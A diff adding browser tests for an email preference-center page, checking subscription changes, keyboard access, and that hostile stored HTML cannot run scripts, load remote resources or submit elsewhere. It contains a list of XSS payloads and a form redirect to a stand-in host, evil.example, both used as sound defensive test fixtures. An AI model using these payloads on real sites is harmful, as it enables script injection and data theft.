@@ -1,0 +1,140 @@
+/** A person's own page in a browser: opened from the URL endpoint, changed, confirmed, and read back through the API. */
+import type { Page } from "playwright-core";
+import { describe, expect, test } from "vitest";
+import { heddleSuite } from "../suite.ts";
+import { centerDeclaration, freshWorkspace, letter, news, storedPage } from "../preference-centers.ts";
+import { browserMissing, browserSuite, keepPicture } from "./browser.ts";
+
+describe.skipIf(browserMissing)("in Chromium", () => {
+  const suite = heddleSuite({ apply: centerDeclaration });
+  const browser = browserSuite();
+
+  test.each([["phone", 390], ["desktop", 1_280]])("the built-in page on a %s changes two groups, by its labels", async (device, width) => {
+    const workspace = freshWorkspace(suite);
+    const ann = await workspace.person("ann.of.the.long.address@mail.example.com");
+    const id = await workspace.create({ preference_center_title: "Your emails from Example & Co" });
+    const { page, seen } = await browser.open(await workspace.url(id, ann), width);
+    await keepPicture(page, `built-in-${device}`);
+    expect(await page.evaluate("document.documentElement.scrollWidth <= window.innerWidth")).toBe(true);
+    await page.getByLabel("Weekly letter").check();
+    await page.getByLabel("News & <more>").check();
+    await page.getByRole("button", { name: "Save" }).click();
+    await page.getByRole("heading", { name: "Your choices are saved" }).waitFor();
+    expect(await page.getByRole("status").isVisible()).toBe(true);
+    await keepPicture(page, `built-in-confirmation-${device}`);
+    expect([await workspace.state(letter, ann), await workspace.state(news, ann)]).toEqual(["Subscribed", "Subscribed"]);
+    await page.getByRole("link", { name: "Back to your settings" }).click();
+    expect(await page.getByLabel("Weekly letter").isChecked()).toBe(true);
+    await page.getByLabel("Weekly letter").uncheck();
+    await page.getByRole("button", { name: "Save" }).click();
+    await page.getByRole("heading", { name: "Your choices are saved" }).waitFor();
+    expect([await workspace.state(letter, ann), await workspace.state(news, ann)]).toEqual(["Unsubscribed", "Subscribed"]);
+    expect(seen).toEqual({ dialogs: [], foreign: [], console: [] });
+  });
+
+  test("the built-in page is worked by keyboard alone", async () => {
+    const workspace = freshWorkspace(suite);
+    const ann = await workspace.person();
+    const { page } = await browser.open(await workspace.url(await workspace.create(), ann));
+    await page.keyboard.press("Tab");
+    expect(await focused(page)).toBe("Weekly letter");
+    await page.keyboard.press("Space");
+    for (const name of ["News & <more>", "Unsubscribe me from all emails", "Save"]) {
+      await page.keyboard.press("Tab");
+      expect(await focused(page)).toBe(name);
+    }
+    await page.keyboard.press("Enter");
+    await page.getByRole("heading", { name: "Your choices are saved" }).waitFor();
+    expect([await workspace.state(letter, ann), await workspace.emailState(ann)]).toEqual(["Subscribed", "subscribed"]);
+  });
+
+  test.each([["phone", 390], ["desktop", 1_280]])("a stored page on a %s changes two groups and all email", async (device, width) => {
+    const workspace = freshWorkspace(suite);
+    const ann = await workspace.person();
+    const id = await workspace.create({
+      preference_center_page_html: storedPage,
+      confirmation_page_html: "<h1>Thank you</h1><p>{{subscribed_state.${email_global}}}</p>",
+      options: { "meta-viewport-content": "width=device-width, initial-scale=1" },
+    });
+    const url = await workspace.url(id, ann);
+    const { page } = await browser.open(url, width);
+    await keepPicture(page, `stored-${device}`);
+    await page.getByLabel("Letter").check();
+    await page.getByLabel("News").check();
+    await page.getByLabel("No email").check();
+    await page.getByRole("button", { name: "Save" }).click();
+    await page.getByRole("heading", { name: "Thank you" }).waitFor();
+    expect(await page.textContent("p")).toBe("unsubscribed");
+    expect([await workspace.state(letter, ann), await workspace.state(news, ann)]).toEqual(["Subscribed", "Subscribed"]);
+    expect(await workspace.emailState(ann)).toBe("unsubscribed");
+    await page.goto(url);
+    await page.getByLabel("No email").uncheck();
+    await page.getByLabel("News").uncheck();
+    await page.getByRole("button", { name: "Save" }).click();
+    await page.getByRole("heading", { name: "Thank you" }).waitFor();
+    expect([await workspace.state(news, ann), await workspace.emailState(ann)]).toEqual(["Unsubscribed", "subscribed"]);
+  });
+
+  test("no script of hostile HTML runs, nothing of it is loaded from elsewhere, and its form goes nowhere else", async () => {
+    const workspace = freshWorkspace(suite);
+    const ann = await workspace.person("ann+o'hara@example.com");
+    const hostile = storedPage.replace("<h1>", `${hostileHtml}<h1>`);
+    const url = await workspace.url(
+      await workspace.create({ preference_center_page_html: hostile, confirmation_page_html: hostileHtml }),
+      ann,
+    );
+    const { page, seen } = await browser.open(url);
+    await page.locator("#click").click();
+    await page.locator("#hover").hover();
+    await page.locator("#stolen").click();
+    expect(await page.title()).not.toBe("owned");
+    expect(page.url()).toBe(url);
+    await page.getByLabel("Letter").check();
+    await page.getByRole("button", { name: "Save" }).click();
+    await page.waitForURL(`${url}?save`);
+    expect(await page.title()).not.toBe("owned");
+    expect([seen.dialogs, seen.foreign]).toEqual([[], []]);
+    expect(await workspace.state(letter, ann)).toBe("Subscribed");
+  });
+
+  test("a form that a page leads elsewhere after all is stopped by the browser", async () => {
+    const workspace = freshWorkspace(suite);
+    const { page, seen } = await browser.open(
+      await workspace.url(await workspace.create({ preference_center_page_html: storedPage }), await workspace.person()),
+    );
+    await page.evaluate(`document.forms[0].setAttribute("action", "https://evil.example/take")`);
+    await page.getByRole("button", { name: "Save" }).click({ noWaitAfter: true });
+    await expect.poll(() => seen.console.join("\n")).toContain("form-action");
+    expect(seen.foreign).toEqual([]);
+  });
+
+  test("a page has an origin of nobody: no cookie and no storage of the server can be reached from it", async () => {
+    const workspace = freshWorkspace(suite);
+    const ann = await workspace.person();
+    const { page } = await browser.open(await workspace.url(await workspace.create({ preference_center_page_html: storedPage }), ann));
+    expect(await page.evaluate("window.origin")).toBe("null");
+  });
+});
+
+const hostileHtml = `
+<script>document.title = "owned"; alert("script")</script>
+<script src="https://evil.example/a.js"></script>
+<img src="x" onerror="alert('onerror')">
+<img src="https://evil.example/pixel.png">
+<svg onload="alert('svg')"><script>alert('svg script')</script></svg>
+<a id="click" href="javascript:alert('link')">click</a>
+<p id="hover" onmouseover="alert('hover')" onpointerenter="alert('enter')">hover</p>
+<iframe src="javascript:alert('frame')"></iframe>
+<iframe srcdoc="<script>alert('srcdoc')</script>"></iframe>
+<object data="https://evil.example/o"></object>
+<link rel="stylesheet" href="https://evil.example/a.css">
+<style>@import url(https://evil.example/b.css); body { background: url(https://evil.example/bg.png) }
+@font-face { font-family: x; src: url(https://evil.example/f.woff) } h1 { font-family: x }</style>
+<button id="stolen" type="button" onclick="alert('button')">button</button>
+<details open ontoggle="alert('toggle')"><summary>more</summary></details>
+<video poster="https://evil.example/p.png"></video>
+`;
+
+async function focused(page: Page): Promise<string> {
+  return String(await page.evaluate("(document.activeElement.labels?.[0] ?? document.activeElement).textContent.trim()"));
+}
